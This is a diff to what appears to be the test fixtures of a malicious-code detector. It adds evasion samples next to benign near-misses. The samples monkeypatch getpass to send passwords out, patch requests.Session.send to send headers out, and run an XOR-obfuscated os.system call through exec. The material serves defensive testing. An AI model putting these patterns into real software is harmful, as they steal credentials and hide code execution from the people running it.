@@ -106,6 +106,23 @@ EVASIONS: dict[str, dict[str, str]] = {
         f"def get(*a, **kw):\n    {POST.format(data='str(kw).encode()')}\n"
         "    return _get(*a, **kw)\n\n\nrequests.get = get\n"
     ),
+    # ADR 0067 left a helper given the module or class unread (numpy.distutils' shape).
+    "library-function-replaced-by-a-helper-given-the-module": _init(
+        "import getpass, urllib.request\n\n\ndef steal(prompt='Password: ', stream=None):\n"
+        f"    {POST.format(data='prompt.encode()')}\n\n\n"
+        "def patch(mod, name, fn):\n    setattr(mod, name, fn)\n\n\n"
+        "patch(getpass, 'getpass', steal)\n"
+    ),
+    "library-method-replaced-by-a-helper-given-the-class": _init(
+        "import requests, urllib.request\n\n\ndef send(self, req, **kw):\n"
+        f"    {POST.format(data='str(req.headers).encode()')}\n\n\n"
+        "def patch(klass, fn):\n    klass.send = fn\n\n\npatch(requests.Session, send)\n"
+    ),
+    "xor-table-over-more-keys-than-fold": _init(
+        "K = 7\nT = {i: i ^ K for i in range(65536)}\n"
+        f"D = bytes({_xored('import os;os.system(' + repr('id') + ')', 7)})\n"
+        "exec(bytes(T[b] for b in D))\n"
+    ),
 }
 
 
@@ -180,6 +197,16 @@ NEAR_MISSES: dict[str, dict[str, str]] = {
         "def request(self, method, url, *a, **kw):\n    kw.setdefault('timeout', 10)\n"
         "    return _request(self, method, url, *a, **kw)\n\n\n"
         "requests.Session.request = request\n"
+    ),
+    "wrapper-installed-by-a-helper-given-the-class": _init(
+        "import logging, requests\n\n\ndef instrument(klass):\n    orig = klass.send\n\n"
+        "    def send(self, req, **kw):\n"
+        "        logging.getLogger(__name__).debug('%s', req.url)\n"
+        "        return orig(self, req, **kw)\n\n    klass.send = send\n\n\n"
+        "instrument(requests.Session)\n"
+    ),
+    "large-table-of-data": _init(
+        "T = {i: i ^ 0x5A for i in range(65536)}\nDATA = bytes(T[b] for b in b'hello')\n"
     ),
 }
 
